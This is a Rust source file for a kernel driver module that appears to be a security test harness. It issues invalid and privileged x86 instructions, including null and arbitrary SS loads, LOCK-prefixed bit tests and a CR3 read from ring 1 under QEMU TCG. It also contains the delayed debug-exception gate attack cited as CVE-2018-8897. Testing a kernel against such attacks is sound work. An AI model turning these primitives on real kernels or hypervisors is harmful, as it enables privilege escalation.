//! Attacks that load SS or a segment register that does not exist, or use LOCK with a bit test of a
//! register: `tell rogue-ss VERB [NUMBER]`. They have a module of their own because QEMU's TCG lets
//! these instructions do more than real CPUs do. Under TCG the kernel refuses the module, unless
//! `limits ss-loads`, `seg-loads` and `lock-bts` permit it.
#![no_std]

use core::arch::asm;
use ringfence_sdk::service::raw;
use ringfence_sdk::{Driver, Manifest, Refusal, Result, driver};

driver!(RogueSs, Manifest::new("rogue-ss", env!("CARGO_PKG_VERSION")).upcall_ms(100));

struct RogueSs;

/// The value of SS in ring 1: a null selector with requested privilege level 1.
const NULL: u16 = 1;
/// The selectors of two gates: the gate of `rf_null`, and the gate that ends an upcall. The kernel
/// defines the layout; it is no secret.
const NULL_GATE: u16 = 6 << 3 | 5;
const RETURN_GATE: u16 = 4 << 3 | 5;

impl Driver for RogueSs {
    fn init() -> Result<RogueSs> {
        // A module that uses the service's stub is granted the service's gate.
        // SAFETY: the service does nothing.
        unsafe { raw::rf_null() };
        Ok(RogueSs)
    }

    fn command(&mut self, text: &str) -> Result<u64> {
        let (verb, argument) = text.split_once(' ').unwrap_or((text, "0"));
        let argument = ringfence_sdk::number(argument)?;
        match verb {
            "load-ss" => load_ss(argument as u16),
            "load-lss" => load_lss(argument as u16),
            "null-ss" => return Ok(null_ss()),
            "shadowed-gate" => shadowed(NULL_GATE),
            "shadowed-return" => shadowed(RETURN_GATE),
            "lock-bt" => lock_bt(argument),
            "load-none" => load_none(argument),
            "watched-gate" => return Ok(watched_gate(argument)),
            _ => return Err(Refusal::NotFound),
        }
        Ok(0)
    }
}

#[inline(never)]
fn load_ss(selector: u16) {
    // SAFETY: none; that is the point, here and below.
    unsafe { asm!("mov ss, {:x}", in(reg) selector) };
}

/// Loads SS and the stack pointer together, then restores the stack pointer.
#[inline(never)]
fn load_lss(selector: u16) {
    // SAFETY: none. LSS with 64-bit operands exists only on Intel CPUs. This form loads 32 bits of
    // the stack pointer and clears the others.
    unsafe {
        asm!("mov {saved}, rsp", "push rax", "push 0", "mov dword ptr [rsp + 4], eax", "lss ecx, [rsp]", "mov rsp, {saved}",
            in("rax") u64::from(selector), out("rcx") _, saved = out(reg) _)
    };
}

/// Loads CS, which MOV cannot do, or segment register 6 or 7, which do not exist.
#[inline(never)]
fn load_none(which: u64) {
    // SAFETY: none.
    unsafe {
        match which {
            1 => asm!(".byte 0x8e, 0xc8", in("eax") 0),
            6 => asm!(".byte 0x8e, 0xf0", in("eax") 0),
            _ => asm!(".byte 0x8e, 0xf8", in("eax") 0),
        }
    };
}

/// Executes bit tests of a register with a LOCK prefix, which are not valid instructions. The bit's
/// number is in a register or in the instruction, and some forms have other prefixes too.
#[inline(never)]
fn lock_bt(which: u64) {
    // SAFETY: none.
    unsafe {
        match which {
            0 => asm!(".byte 0xf0, 0x0f, 0xa3, 0xc9"),
            1 => asm!(".byte 0xf0, 0x0f, 0xab, 0xc9", out("rcx") _),
            2 => asm!(".byte 0xf0, 0x66, 0x0f, 0xb3, 0xc9", out("rcx") _),
            3 => asm!(".byte 0xf0, 0x48, 0x0f, 0xbb, 0xc9", out("rcx") _),
            _ => asm!(".byte 0x66, 0xf0, 0xf2, 0x0f, 0xba, 0xe1, 1"),
        }
    };
}

/// Loads a null selector into SS and reads CR3, which only ring 0 may do. QEMU takes the ring from
/// SS, and so returns CR3.
#[inline(never)]
fn null_ss() -> u64 {
    let cr3: u64;
    // SAFETY: none.
    unsafe { asm!("mov ss, {:x}", "mov {}, cr3", in(reg) NULL, out(reg) cr3) };
    cr3
}

/// Single-steps into a gate in the shadow of a write to SS, which delays the debug exception until
/// the gate was entered.
#[inline(never)]
fn shadowed(gate: u16) {
    let target = [0u16, 0, gate];
    // SAFETY: none.
    unsafe {
        asm!(
            "pushfq",
            "or qword ptr [rsp], 0x100",
            "popfq",
            "mov ss, cx",
            ".byte 0xff, 0x18", // call far [rax]
            inout("rax") target.as_ptr() as u64 => _, in("cx") NULL, clobber_abi("C")
        )
    };
}

/// Loads SS from `address`, on which a data breakpoint is set, and calls a gate right after that.
/// The debug exception for the load is delayed until the gate was entered (CVE-2018-8897).
#[inline(never)]
fn watched_gate(address: u64) -> u64 {
    let target = [0u16, 0, NULL_GATE];
    let result: u64;
    // SAFETY: none.
    unsafe {
        asm!(
            "mov word ptr [rcx], {null}",
            "mov ss, word ptr [rcx]",
            ".byte 0xff, 0x18",
            null = const NULL,
            inout("rax") target.as_ptr() as u64 => result, inout("rcx") address => _, clobber_abi("C")
        )
    };
    result
}
